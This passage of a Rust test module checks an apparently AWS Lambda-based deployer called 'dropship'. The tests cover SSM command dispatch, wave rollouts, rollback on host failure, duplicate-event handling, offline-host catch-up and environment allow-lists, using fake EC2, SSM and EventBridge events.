        // The version itself is settled: a retry is a duplicate that moves the pointer.
        assert_eq!(stored_record(&d.edges).outcome, Outcome::Dispatched);
        let inv = Invocation::default();
        let again = d.handle(&event(), &inv).await.unwrap();
        assert_eq!(again.outcome, Outcome::SkippedDuplicate);
        assert_eq!(stored_pointer(&d.edges).version_id, VERSION);
        assert_eq!(d.edges.sent_to(), ["i-1"], "still one command");
    }

    #[tokio::test]
    async fn an_unindexed_command_with_dropships_comment_is_retried_only_while_its_sender_could_index_it(
    ) {
        // Anyone with ssm:SendCommand can send dropship's document with dropship's Comment.
        let d = Deployer::new(config(), FakeAws::with_instances(&["i-1"]));
        host_answers(&d, "cmd-lookalike", "i-1", 0, "deployed");
        let inv = Invocation::default();
        let sent_at = |t: OffsetDateTime| {
            let mut e = ssm_event("cmd-lookalike", "i-1", "Success");
            e["detail"]["requested-date-time"] = json!(plan::format_time(t));
            e
        };
        let now = OffsetDateTime::now_utc();
        // Just sent: its sender may not have indexed it yet, so Lambda retries.
        let err = d.handle(&sent_at(now), &inv).await.unwrap_err();
        assert!(matches!(err, HandlerError::Busy(_)), "{err}");
        // An hour old: no deployer invocation lives that long, so nobody will index it; it is
        // ignored instead of being retried into the failure queue.
        let old = d
            .handle(&sent_at(now - time::Duration::hours(1)), &inv)
            .await
            .unwrap();
        assert_eq!(old.outcome, Outcome::Ignored);
        assert!(
            old.reason
                .as_deref()
                .unwrap_or_default()
                .contains("looks like one"),
            "{old:?}"
        );
        assert!(d.edges.sent_to().is_empty());
    }

    /// SSM's `EC2 Command Invocation Status-change Notification`, as AWS documents it.
    fn ssm_event(command_id: &str, instance_id: &str, status: &str) -> Value {
        json!({
            "version": "0", "id": format!("ssm-{command_id}-{instance_id}"),
            "detail-type": "EC2 Command Invocation Status-change Notification",
            "source": "aws.ssm", "account": "123456789012", "time": "2026-11-23T09:01:00Z",
            "region": "us-east-1",
            "resources": [format!("arn:aws:ec2:us-east-1:123456789012:instance/{instance_id}")],
            "detail": {"command-id": command_id, "document-name": "dropship-deploy-production",
                       "instance-id": instance_id, "requested-date-time": "2026-11-23T09:00:01.000Z",
                       "status": status}
        })
    }

    /// What the host answers through `GetCommandInvocation`: exit code and result line.
    fn host_answers(
        d: &Deployer<FakeAws>,
        command: &str,
        instance: &str,
        code: i32,
        outcome: &str,
    ) {
        let line = format!(
            "DROPSHIP_RESULT {{\"outcome\":\"{outcome}\",\"release\":\"r2\",\"previous\":\"r1\",\"version_id\":\"{VERSION}\",\"commit\":\"{COMMIT}\",\"exit_code\":{code},\"message\":\"m\"}}\n"
        );
        let inv = dropship_contract::fleet::Invocation {
            command_id: command.into(),
            instance_id: instance.into(),
            status: if code == 0 { "Success" } else { "Failed" }.into(),
            status_details: if code == 0 { "Success" } else { "Failed" }.into(),
            response_code: code,
            standard_output_content: line,
            standard_error_content: String::new(),
            comment: "dropship shop/prod".into(),
        };
        d.edges
            .invocations
            .lock()
            .unwrap()
            .insert((command.into(), instance.into()), inv);
    }

    async fn finished(
        d: &Deployer<FakeAws>,
        command: &str,
        instance: &str,
        status: &str,
    ) -> Response {
        let inv = Invocation {
            request_id: Some("result-invocation".into()),
            deadline: None,
        };
        d.handle(&ssm_event(command, instance, status), &inv)
            .await
            .unwrap()
    }

    fn rollout(d: &Deployer<FakeAws>) -> Fleet {
        stored_record(&d.edges).fleet.expect("rollout recorded")
    }

    fn events(d: &Deployer<FakeAws>) -> Vec<Value> {
        d.edges
            .events
            .lock()
            .unwrap()
            .iter()
            .map(|(t, body)| {
                assert_eq!(t, dropship_contract::events::DEPLOY_FINISHED);
                serde_json::from_str(body).unwrap()
            })
            .collect()
    }

    #[tokio::test]
    async fn one_host_at_a_time_a_failure_on_host_3_sends_hosts_1_and_2_back_and_host_4_never_switches(
    ) {
        let fake = FakeAws::with_instances(&["i-1", "i-2", "i-3", "i-4"]);
        let (result, d) = handle_with(config_with("1"), fake).await;
        assert_eq!(result.unwrap().outcome, Outcome::Dispatched);
        assert_eq!(d.edges.sent_to(), ["i-1"]);

        host_answers(&d, "cmd-1", "i-1", 0, "deployed");
        finished(&d, "cmd-1", "i-1", "Success").await;
        assert_eq!(
            d.edges.sent_to(),
            ["i-1", "i-2"],
            "wave 2 follows wave 1's success"
        );
        host_answers(&d, "cmd-2", "i-2", 0, "deployed");
        finished(&d, "cmd-2", "i-2", "Success").await;
        assert_eq!(d.edges.sent_to(), ["i-1", "i-2", "i-3"]);

        // Host 3 fails health and rolls itself back: the rollout stops, 1 and 2 go back.
        host_answers(&d, "cmd-3", "i-3", 9, "rolled_back");
        finished(&d, "cmd-3", "i-3", "Failed").await;
        assert_eq!(d.edges.sent_to(), ["i-1", "i-2", "i-3", "i-1", "i-2"]);
        let (rollback, script) = d.edges.sent.lock().unwrap()[3].clone();
        assert_eq!(rollback.purpose, Purpose::Rollback);
        assert!(
            script.contains("export DROPSHIP_ACTION='rollback'"),
            "rollback action"
        );
        assert!(
            script.contains(&format!("export DROPSHIP_EXPECT_VERSION_ID='{VERSION}'")),
            "guarded by the version"
        );
        assert_eq!(
            rollout(&d).rollback.as_deref(),
            Some(&["i-1".to_string(), "i-2".to_string()][..])
        );

        // The same event again, and one out of order: nothing new is sent.
        finished(&d, "cmd-3", "i-3", "Failed").await;
        finished(&d, "cmd-1", "i-1", "Success").await;
        assert_eq!(d.edges.sent_to().len(), 5);
        assert!(
            events(&d).is_empty(),
            "not settled before the rollback results"
        );

        host_answers(&d, "cmd-4", "i-1", 0, "deployed");
        host_answers(&d, "cmd-4", "i-2", 0, "superseded");
        finished(&d, "cmd-4", "i-1", "Success").await;
        assert!(rollout(&d).outcome.is_none());
        finished(&d, "cmd-4", "i-2", "Success").await;
        let f = rollout(&d);
        assert_eq!(
            f.outcome,
            Some(dropship_contract::fleet::FleetOutcome::RolledBack)
        );
        assert!(f.notified);
        let sent = events(&d);
        assert_eq!(sent.len(), 1, "exactly one notification");
        let e = &sent[0];
        assert_eq!(e["outcome"], "rolled_back");
        assert_eq!(e["succeeded"], false);
        assert_eq!(e["version_id"], VERSION);
        assert_eq!(e["commit"], COMMIT);
        let hosts: Vec<(String, String, Value)> = e["hosts"]
            .as_array()
            .unwrap()
            .iter()
            .map(|h| {
                (
                    h["instance_id"].as_str().unwrap().into(),
                    h["outcome"].as_str().unwrap().into(),
                    h["rollback"].clone(),
                )
            })
            .collect();
        assert_eq!(
            hosts,
            vec![
                ("i-1".into(), "success".into(), json!("success")),
                ("i-2".into(), "success".into(), json!("success")),
                ("i-3".into(), "rolled_back".into(), Value::Null),
                ("i-4".into(), "not_sent".into(), Value::Null),
            ]
        );
        for key in dropship_contract::events::DEPLOY_FINISHED_DETAIL_KEYS {
            assert!(e.get(key).is_some(), "detail has {key}");
        }

        // Every later event for the version changes nothing and tells nobody twice.
        finished(&d, "cmd-4", "i-2", "Success").await;
        assert_eq!(events(&d).len(), 1);
        assert_eq!(d.edges.sent_to().len(), 5);
    }

    #[tokio::test]
    async fn leave_stops_the_rollout_and_keeps_the_fleet_mixed_saying_so() {
        let mut fake = FakeAws::with_instances(&["i-1", "i-2", "i-3"]);
        // on_failure comes from the bundle's manifest.
        fake.on_failure = dropship_contract::fleet::OnFailure::Leave;
        let (result, d) = handle_with(config_with("1"), fake).await;
        result.unwrap();
        host_answers(&d, "cmd-1", "i-1", 0, "deployed");
        finished(&d, "cmd-1", "i-1", "Success").await;
        host_answers(&d, "cmd-2", "i-2", 7, "failed");
        finished(&d, "cmd-2", "i-2", "Failed").await;
        assert_eq!(d.edges.sent_to(), ["i-1", "i-2"], "no rollback, no wave 3");
        let f = rollout(&d);
        assert_eq!(
            f.outcome,
            Some(dropship_contract::fleet::FleetOutcome::PartiallyDeployed)
        );
        assert!(f.reason.unwrap().contains("1 run(s) the new version: i-1"));
        assert_eq!(events(&d)[0]["outcome"], "partially_deployed");
    }

    #[tokio::test]
    async fn a_crash_between_storing_a_result_and_settling_is_recovered_by_the_next_event() {
        let fake = FakeAws::with_instances(&["i-1"]);
        let (result, d) = handle_with(config_with("1"), fake).await;
        result.unwrap();
        host_answers(&d, "cmd-1", "i-1", 0, "deployed");
        // The first invocation stored the result and died before deciding: only the result
        // object exists.
        let observed = d.edges.invocation("cmd-1", "i-1").await.unwrap();
        let stored = dropship_contract::fleet::StoredResult {
            format: dropship_contract::record::RECORD_FORMAT,
            app: "shop".into(),
            env: "prod".into(),
            version_id: VERSION.into(),
            purpose: Purpose::Deploy,
            host: dropship_contract::fleet::host_status("cmd-1", "i-1", &observed),
            stored_at: "2026-11-23T09:01:00Z".into(),
        };
        d.edges.preload(
            &release().result_key(VERSION, "i-1", "cmd-1"),
            stored.to_bytes(),
        );
        assert!(rollout(&d).outcome.is_none());
        // Lambda's retry (or a duplicate event) finds the result there and settles.
        finished(&d, "cmd-1", "i-1", "Success").await;
        assert_eq!(
            rollout(&d).outcome,
            Some(dropship_contract::fleet::FleetOutcome::Deployed)
        );
        assert_eq!(events(&d).len(), 1);
        assert_eq!(events(&d)[0]["succeeded"], true);
    }

    #[tokio::test]
    async fn offline_instances_are_recorded_pending_and_never_sent_to() {
        let fake = FakeAws::with_instances(&["i-1", "i-2"]);
        *fake.offline.lock().unwrap() = vec!["i-2".into()];
        let (result, d) = handle_with(config_with("100%"), fake).await;
        assert_eq!(result.unwrap().outcome, Outcome::Dispatched);
        assert_eq!(d.edges.sent_to(), ["i-1"]);
        assert_eq!(rollout(&d).pending, ["i-2"]);
        host_answers(&d, "cmd-1", "i-1", 0, "deployed");
        finished(&d, "cmd-1", "i-1", "Success").await;
        let f = rollout(&d);
        assert_eq!(
            f.outcome,
            Some(dropship_contract::fleet::FleetOutcome::Deployed)
        );
        assert!(f
            .reason
            .unwrap()
            .contains("not online in SSM were not sent to: i-2"));
        assert_eq!(events(&d)[0]["hosts"][1]["outcome"], "offline");

        let none = FakeAws::with_instances(&["i-1"]);
        *none.offline.lock().unwrap() = vec!["i-1".into()];
        let (result, d) = handle(none).await;
        let r = result.unwrap();
        assert_eq!(r.outcome, Outcome::NoTargets);
        assert!(r.reason.unwrap().contains("not online in SSM (i-1)"));
        assert!(d.edges.sent_to().is_empty());
    }

    #[tokio::test]
    async fn status_events_of_commands_dropship_never_sent_are_ignored() {
        let (result, d) = handle(FakeAws::with_instances(&["i-1"])).await;
        result.unwrap();
        let r = finished(&d, "someone-elses", "i-1", "Success").await;
        assert_eq!(r.outcome, Outcome::Ignored);
        assert!(r.reason.unwrap().contains("not a dropship command"));
        let r = d
            .handle(
                &ssm_event("cmd-1", "i-1", "InProgress"),
                &Invocation::default(),
            )
            .await
            .unwrap();
        assert_eq!(r.outcome, Outcome::Ignored, "only terminal statuses matter");
    }

    /// EC2's `EC2 Instance State-change Notification`, as AWS documents it.
    fn instance_event(instance_id: &str, state: &str) -> Value {
        json!({
            "version": "0", "id": format!("ec2-{instance_id}-{state}"),
            "detail-type": "EC2 Instance State-change Notification", "source": "aws.ec2",
            "account": "123456789012", "time": "2026-11-23T09:05:00Z", "region": "us-east-1",
            "resources": [format!("arn:aws:ec2:us-east-1:123456789012:instance/{instance_id}")],
            "detail": {"instance-id": instance_id, "state": state}
        })
    }

    /// An EventBridge schedule's event, as AWS documents it.
    fn scheduled_event() -> Value {
        json!({
            "version": "0", "id": "sched-1", "detail-type": "Scheduled Event",
            "source": "aws.events", "account": "123456789012", "time": "2026-11-23T09:10:00Z",
            "region": "us-east-1",
            "resources": ["arn:aws:events:us-east-1:123456789012:rule/dropship-reconcile"],
            "detail": {}
        })
    }

    #[tokio::test]
    async fn a_host_offline_at_dispatch_catches_up_once_when_it_comes_online() {
        let fake = FakeAws::with_instances(&["i-1", "i-2"]);
        *fake.offline.lock().unwrap() = vec!["i-2".into()];
        let (result, d) = handle_with(config_with("100%"), fake).await;
        result.unwrap();
        host_answers(&d, "cmd-1", "i-1", 0, "deployed");
        finished(&d, "cmd-1", "i-1", "Success").await;
        let pointer = dropship_contract::fleet::FleetPointer::from_bytes(
            &d.edges
                .object(&release().fleet_key())
                .expect("fleet pointer written"),
        )
        .unwrap();
        assert_eq!(pointer.version_id, VERSION);

        // It starts, but its agent has not registered: retried, nothing sent.
        let inv = Invocation::default();
        let early = d.handle(&instance_event("i-2", "running"), &inv).await;
        assert!(matches!(early, Err(HandlerError::Busy(r)) if r.contains("not online in SSM yet")));
        assert_eq!(d.edges.sent_to(), ["i-1"]);

        // Online now; the event arrives twice: one command.
        d.edges.offline.lock().unwrap().clear();
        let first = d
            .handle(&instance_event("i-2", "running"), &inv)
            .await
            .unwrap();
        assert_eq!(first.targets, ["i-2"]);
        let second = d
            .handle(&instance_event("i-2", "running"), &inv)
            .await
            .unwrap();
        assert!(second.targets.is_empty(), "{second:?}");
        assert_eq!(d.edges.sent_to(), ["i-1", "i-2"]);
        let (_, script) = d.edges.sent.lock().unwrap()[1].clone();
        assert!(script.contains("export DROPSHIP_ACTION='deploy'"));
        assert!(
            script.contains(&format!("export DROPSHIP_VERSION_ID='{VERSION}'"))
                && script
                    .contains("export DROPSHIP_S3_ENDPOINT='https://s3.eu-west-1.amazonaws.com'")
                && !script.contains("X-Amz-Signature"),
            "where to download, never a credential"
        );

        // Its result completes the picture: deployed on both, nobody pending.
        host_answers(&d, "cmd-2", "i-2", 0, "deployed");
        finished(&d, "cmd-2", "i-2", "Success").await;
        let f = rollout(&d);
        assert!(f.pending.is_empty());
        let summary: Vec<(String, dropship_contract::fleet::HostState)> = f
            .hosts
            .iter()
            .map(|h| (h.instance_id.clone(), h.outcome))
            .collect();
        assert_eq!(
            summary,
            [
                ("i-1".into(), dropship_contract::fleet::HostState::Success),
                ("i-2".into(), dropship_contract::fleet::HostState::Success)
            ]
        );
        assert_eq!(
            events(&d).len(),
            1,
            "catch-up is not a second deploy notification"
        );
        // A stopped instance's event and a foreign one change nothing.
        let r = d
            .handle(&instance_event("i-2", "stopped"), &inv)
            .await
            .unwrap();
        assert_eq!(r.outcome, Outcome::Ignored);
        let r = d
            .handle(&instance_event("i-9", "running"), &inv)
            .await
            .unwrap();
        assert!(r.reason.unwrap().contains("not running with both"));
    }

    #[tokio::test]
    async fn the_periodic_reconcile_sends_the_fleets_version_to_a_newly_tagged_instance_once() {
        let fake = FakeAws::with_instances(&["i-1"]);
        let (result, d) = handle_with(config_with("100%"), fake).await;
        result.unwrap();
        host_answers(&d, "cmd-1", "i-1", 0, "deployed");
        finished(&d, "cmd-1", "i-1", "Success").await;
        // An Auto Scaling replacement (or a re-tagged instance) appears with the fleet's tags.
        d.edges.instances.lock().unwrap().push("i-3".into());
        let inv = Invocation::default();
        let r = d.handle(&scheduled_event(), &inv).await.unwrap();
        assert_eq!(r.targets, ["i-3"]);
        let r = d.handle(&scheduled_event(), &inv).await.unwrap();
        assert!(r.targets.is_empty());
        assert_eq!(d.edges.sent_to(), ["i-1", "i-3"]);
    }

    #[tokio::test]
    async fn instance_starts_and_the_reconcile_act_only_on_the_deployers_own_environments() {
        let fake = FakeAws::with_instances(&["i-1"]);
        let (result, d) = handle_with(config_with("100%"), fake).await;
        result.unwrap();
        host_answers(&d, "cmd-1", "i-1", 0, "deployed");
        finished(&d, "cmd-1", "i-1", "Success").await;
        d.edges.instances.lock().unwrap().push("i-3".into());
        // The other environment class's function gets the same instance and schedule events
        // (they name no tag); its allow-list lacks the fleet's environment.
        let other_class = Config::from_lookup(|k| match k {
            "DROPSHIP_ALLOWED_ENVIRONMENTS" => Some("staging".to_owned()),
            "DROPSHIP_COMMAND_DOCUMENT" => Some("dropship-deploy-nonproduction".to_owned()),
            other => config_with_lookup(other),
        })
        .unwrap();
        let other = Deployer::new(other_class, d.edges);
        let inv = Invocation::default();
        let r = other.handle(&scheduled_event(), &inv).await.unwrap();
        assert!(r.targets.is_empty(), "{r:?}");
        let r = other
            .handle(&instance_event("i-3", "running"), &inv)
            .await
            .unwrap();
        assert!(r.targets.is_empty(), "{r:?}");
        assert!(
            r.reason
                .as_deref()
                .unwrap_or_default()
                .contains("DROPSHIP_ALLOWED_ENVIRONMENTS"),
            "{r:?}"
        );
        assert_eq!(
            other.edges.sent_to(),
            ["i-1"],
            "nothing sent by the other class"
        );
    }

    #[tokio::test]
    async fn a_fleet_that_rolled_back_is_never_the_version_new_hosts_get() {
        let fake = FakeAws::with_instances(&["i-1"]);
        let (result, d) = handle_with(config_with("100%"), fake).await;
        result.unwrap();
        host_answers(&d, "cmd-1", "i-1", 9, "rolled_back");
        finished(&d, "cmd-1", "i-1", "Failed").await;
        assert!(d.edges.object(&release().fleet_key()).is_none());
        d.edges.instances.lock().unwrap().push("i-3".into());
        let r = d
            .handle(&scheduled_event(), &Invocation::default())
            .await
            .unwrap();
        assert!(r.targets.is_empty());
        assert_eq!(d.edges.sent_to(), ["i-1"]);
    }
}
